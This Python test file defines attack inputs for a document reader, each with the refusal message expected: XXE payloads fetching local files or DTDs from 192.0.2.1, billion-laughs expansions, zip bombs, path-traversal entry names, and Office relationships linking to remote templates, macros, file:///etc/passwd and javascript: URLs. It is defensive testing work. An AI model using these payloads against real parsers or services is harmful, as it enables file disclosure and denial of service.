"""The attacks: how each file is made, which readers get it, and what they must say."""
import dataclasses

import readers
import zips

KIB, MIB, GIB = 1 << 10, 1 << 20, 1 << 30


TAKEN = "taken"


@dataclasses.dataclass
class Attack:
    """One kind of file, and the readers that it is given to."""
    family: str
    name: str
    make: object             # (work, reader) -> its bytes, or the path of a file
    readers: dict
    says: object             # the message of the refusal; TAKEN: none, as it does no harm
    mib: int = 64            # of memory at most
    seconds: float = 1.0     # of the processor at most


def to_bytes(text):
    text = text() if callable(text) else text
    return text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass")


def only(kinds, *names):
    return {name: kinds[name] for name in names}


# XML: each is given to every reader of XML, and to every reader of packages in each part that it opens.

def entities(levels, each):
    """The first is a word, each other `each` times the one before."""
    lines = ['<!ENTITY e0 "质量">'] + [f'<!ENTITY e{i} "{f"&e{i - 1};" * each}">' for i in range(1, levels)]
    return "".join(lines)


def syntax(words):
    return f"the XML is not well formed: {words} [xml-syntax]"


DOCTYPE = "a DOCTYPE is not allowed [xml-doctype]"
MANY = "an element has more than 256 attributes [xml-attributes]"
XML_ATTACKS = {
    "external entity": ('<!DOCTYPE x [<!ENTITY e SYSTEM "../private.txt">]><x>&e;</x>', DOCTYPE),
    "external entity in an attribute": ('<!DOCTYPE x [<!ENTITY e SYSTEM "../private.txt">]><x title="&e;"/>', DOCTYPE),
    "external DTD": ('<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd"><x/>', DOCTYPE),
    "parameter entity": ('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/p">%p;]><x/>', DOCTYPE),
    "billion laughs": (f"<!DOCTYPE x [{entities(10, 10)}]><x>&e9;</x>", DOCTYPE),
    "billion laughs in an attribute": (f'<!DOCTYPE x [{entities(10, 10)}]><x title="&e9;"/>', DOCTYPE),
    "quadratic entity": (lambda: f'<!DOCTYPE x [<!ENTITY e "{"质" * 100000}">]><x>{"&e;" * 100000}</x>', DOCTYPE),
    "entity without a DOCTYPE": ("<x>&e;</x>", syntax("there is no entity &e;: write the character itself")),
    "deep nesting": (lambda: "<x>" * 100000, syntax("elements are nested too deep")),
    "invalid character": ("<x>\x01</x>", "the character U+0001 is forbidden in XML and in documents [text-character]"),
    "invalid character by number": ("<x>&#1;</x>", syntax("&#…; names no character: write the character itself")),
    "non-character": ("<x>\ufffe</x>", "the character U+FFFE is forbidden in XML and in documents [text-character]"),
    "half a character": (b"<x>\xed\xa0\x80</x>", "the byte 0xED is not UTF-8 [text-encoding]"),
    "overlong character": (b"<x>\xc0\xbcscript></x>", "the byte 0xC0 is not UTF-8 [text-encoding]"),
    "another encoding": ('<?xml version="1.0" encoding="UTF-7"?><x>+ADw-y+AD4-</x>',
                         "the XML declaration names the encoding UTF-7 [xml-encoding]"),
    "huge attribute": (lambda: '<x title="' + "a" * (11 * MIB) + '"/>',
                       syntax('the value of an attribute is not closed with ", or too long')),
    "huge name": (lambda: "<" + "a" * (11 * MIB) + "/>", syntax("a name is too long")),
    "many attributes": (lambda: "<x " + " ".join(f'a{i}="1"' for i in range(200000)) + "/>", MANY),
    "many attributes behind a mistake": (
        lambda: '<r><y =" <x ' + " ".join(f"a{i}='1'" for i in range(200000)) + "/></r>", MANY),
    "many namespaces": (lambda: "<x " + " ".join(f'xmlns:a{i}="u{i}"' for i in range(200000)) + "/>", MANY),
}


def into_file(text):
    return lambda work, reader: to_bytes(text)


def into_part(text, part):
    """The text stands in this part of a package that is good otherwise."""
    def make(work, reader):
        return zips.packed(zips.whole({**reader.parts(work), part: to_bytes(text)}))
    return make


def xml_attacks():
    for name, (text, says) in XML_ATTACKS.items():
        mib = 96 if name.startswith("huge") else 64  # the file alone has 11, and is read to know what it is
        yield Attack("XML", name, into_file(text), readers.XML, says, mib)
        for reader, parts in readers.PARTS.items():
            for part in parts:
                yield Attack("XML", f"{name}: {part}", into_part(text, part), only(readers.PACKAGES, reader), says,
                             mib)


# ZIP: each is given to every reader of packages.

def entry(name, words):
    return f'the entry "{name}" of the package is refused: {words} [package-entry]'


def broken(words):
    return f"the package cannot be read: {words} [package-broken]"


UNSAFE, CONTRADICTS = "its name is unsafe", "its directory contradicts what it holds"
PART = "MAIN in the package inflates to more than 16 MiB [part-bytes]"
ALL_PARTS = "the parts of the package inflate to more than 64 MiB [package-bytes]"
ENTRIES = "the package has more than 4096 entries [package-entries]"
ZIP_ATTACKS = {
    "bomb of 1 GiB": (zips.bomb(GIB), PART),
    "bomb of 1 GiB that tells 1 KiB": (zips.bomb(GIB, told=KIB), PART),
    "bomb of many parts": (zips.many_bombs(80, MIB), ALL_PARTS),
    "bomb of entries that overlap": (zips.overlapping(60, MIB), broken("its entries overlap")),
    "4,097 entries": (zips.many(4097), ENTRIES),
    "65,535 entries, one told": (zips.many(65535, 1), ENTRIES),
    "an entry twice": (zips.twice, entry("MAIN", "two entries have the same name")),
    "an entry twice, in capitals": (zips.twice_in_capitals, entry("CAPITALS", "two entries have the same name")),
    "size too small": (zips.with_main(size=10), entry("MAIN", CONTRADICTS)),
    "size too large": (zips.with_main(size=15 * MIB), entry("MAIN", CONTRADICTS)),
    "packed size too large": (zips.with_main(packed=MIB), entry("MAIN", "the data end too early")),
    "packed size beyond the file": (zips.with_main(packed=0xFFFFFFF0), entry("MAIN", "the data end too early")),
    "packed size too small": (zips.with_main(packed=10), entry("MAIN", "the checksum does not fit")),
    "wrong checksum": (zips.with_main(crc=1), entry("MAIN", "the checksum does not fit")),
    "encrypted": (zips.with_main(flags=1), entry("MAIN", "it is encrypted")),
    "unknown method": (zips.with_main(method=97, data=b"abc"), entry("MAIN", "the method of compression is unknown")),
    "data that are no deflate": (zips.with_main(data=b"\xff" * 100), entry("MAIN", "the compressed data are damaged")),
    "cut": (zips.cut, broken("it is no ZIP file, or its end is missing")),
    "name that leads up": (zips.with_entry(b"../../evil.xml"), entry("../../evil.xml", UNSAFE)),
    "name that leads up, inside": (zips.with_entry(b"word/../../evil.xml"), entry("word/../../evil.xml", UNSAFE)),
    "name from the root": (zips.with_entry(b"/etc/evil"), entry("/etc/evil", UNSAFE)),
    "name with backslashes": (zips.with_entry(b"..\\evil.xml"), entry("..\\evil.xml", UNSAFE)),
    "name with a drive": (zips.with_entry(b"C:evil.xml"), entry("C:evil.xml", UNSAFE)),
    "name with a zero": (zips.with_entry(b"a\0b"), TAKEN),
    "name with a control": (zips.with_entry(b"a\x1b[2Jb", flags=0x800), broken(CONTRADICTS)),
    "name that is no text": (zips.with_entry(b"\xff\xfe", flags=0x800), broken(CONTRADICTS)),
    "no name": (zips.with_entry(b""), entry("", UNSAFE)),
    "name of 60 KB": (zips.with_entry(b"a" * 60000), TAKEN),
}


def as_package(make):
    return lambda work, reader: make(reader.parts(work), reader.main)


def zip_attacks():
    for name, (make, says) in ZIP_ATTACKS.items():
        for reader, way in readers.PACKAGES.items():
            yield Attack("ZIP", name, as_package(make), {reader: way},
                         says.replace("MAIN", way.main).replace("CAPITALS", way.main.upper()))


# Relationships and kinds of content: what would act by itself, or reach out of the file.

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
RELATIONS = {
    "template from the web": ("attachedTemplate", "http://192.0.2.1/t.dotm", "External", "a template that Word would load"),
    "template in a file": ("attachedTemplate", "file:///C:/t.dotx", "External", "a template that Word would load"),
    "object from the web": ("oleObject", "mhtml:http://192.0.2.1/x!x-usc:http://192.0.2.1/y", "External", "an embedded object"),
    "object inside": ("oleObject", "embeddings/o.bin", "Internal", "an embedded object"),
    "file inside": ("package", "embeddings/o.xlsx", "Internal", "an embedded file"),
    "macros": ("vbaProject", "vbaProject.bin", "Internal", "macros"),
    "document that is drawn in": ("aFChunk", "chunk.html", "Internal", "an imported document"),
    "subdocument": ("subDocument", "file:///C:/x.docx", "External", "a subdocument"),
    "frame": ("frame", "http://192.0.2.1/", "External", "a frame with another document"),
    "control": ("control", "activeX/a.xml", "Internal", "an ActiveX control"),
    "mail merge": ("mailMergeSource", "file:///C:/list.csv", "External", "a source of mail merge"),
    "picture from the web": ("image", "http://192.0.2.1/a.png", "External", "a link to the outside"),
    "picture from a share": ("image", "\\\\192.0.2.1\\a.png", "external", "a link to the outside"),
    "link to a file": ("hyperlink", "file:///etc/passwd", "External", "a link to the outside"),
    "link that is a program": ("hyperlink", "javascript:alert(1)", "External", "a link to the outside"),
    "link to a search": ("hyperlink", "search-ms:query=x", "External", "a link to the outside"),
    "another workbook": ("externalLinkPath", "http://192.0.2.1/b.xlsx", "External", "a link to the outside"),
}


def with_relation(kind, target, mode):
    """Another part's relationships say it: who opens the file reads them all the same."""
    text = (f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
            f'Type="{OFFICE}{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>')
    return into_part(text, "x/_rels/y.xml.rels")


def of_type(content_type):
    def make(work, reader):
        parts = reader.parts(work)
        types = parts["[Content_Types].xml"].replace(
            b"</Types>", f'<Override PartName="/x.bin" ContentType="{content_type}"/></Types>'.encode())
        return zips.packed(zips.whole({**parts, "[Content_Types].xml": types}))
    return make


def relation_attacks():
    for name, (kind, target, mode, what) in RELATIONS.items():
        yield Attack("relationship", name, with_relation(kind, target, mode), readers.PACKAGES,
                     f'the document holds {what}: "{target}" [package-content]')
    for content_type in ("application/vnd.ms-word.document.macroEnabled.main+xml", "application/vnd.ms-office.vbaProject"):
        yield Attack("relationship", f"content type {content_type.rsplit('.', 1)[1]}", of_type(content_type), readers.PACKAGES,
                     'the document holds macros: "/x.bin" [package-content]')


# Sizes.

def size_attacks():
    for name, reader in {**readers.XML, **readers.PACKAGES, **readers.TEXT}.items():
        for what in (readers.SPACES, readers.ZEROS):
            yield Attack("size", f"1 GiB of {what}", lambda work, _, what=what: work.parent / what, {name: reader},
                         f"{reader.told} is larger than 32 MiB [file-too-large]")
    # Lists are read row by row and may be larger; first it is looked through what encoding one is in.
    for what, says in {
            readers.SPACES: "the row is longer than 1 MiB [rows-long]",
            readers.ZEROS: "the character U+0000 is forbidden in XML and in documents [text-character]"}.items():
        yield Attack("size", f"1 GiB of {what}", lambda work, _, what=what: work.parent / what, readers.LISTS, says,
                     seconds=5)


# Prose on which a parser or a pattern could spend more than its share.

HUGE = 300000
PROSE = {
    "open brackets": ("[", TAKEN),
    "emphasis that is not closed": ("**a ", TAKEN),
    "links that are not closed": ("[a](", TAKEN),
    "pictures that are not closed": ("![[", TAKEN),
    "lists": ("1. a\n", TAKEN),
    "headings": ("# a\n", TAKEN),
    "annexes": ("（见附件1）", TAKEN),
    "ends of sections": ("{{/}}", "more than 4096 tags in one template [tag-count]"),
    "sections": ("{{# .}}", "more than 4096 tags in one template [tag-count]"),
    "empty lines": ("\n", TAKEN),
    "braces": ("{", f'the tag "{"{" * 40}…" is not understood [tag-syntax]'),
    "quotes": (">", "a block quote cannot stand in an official document [template-markdown]"),
}


def prose_attacks():
    for name, (piece, says) in PROSE.items():
        text = piece * (HUGE // len(piece.encode()))
        for reader in ("prose", "prose, checked"):
            yield Attack("prose", name, into_file(text), only(readers.TEXT, reader), says, mib=192)


ATTACKS = [*xml_attacks(), *zip_attacks(), *relation_attacks(), *size_attacks(), *prose_attacks()]
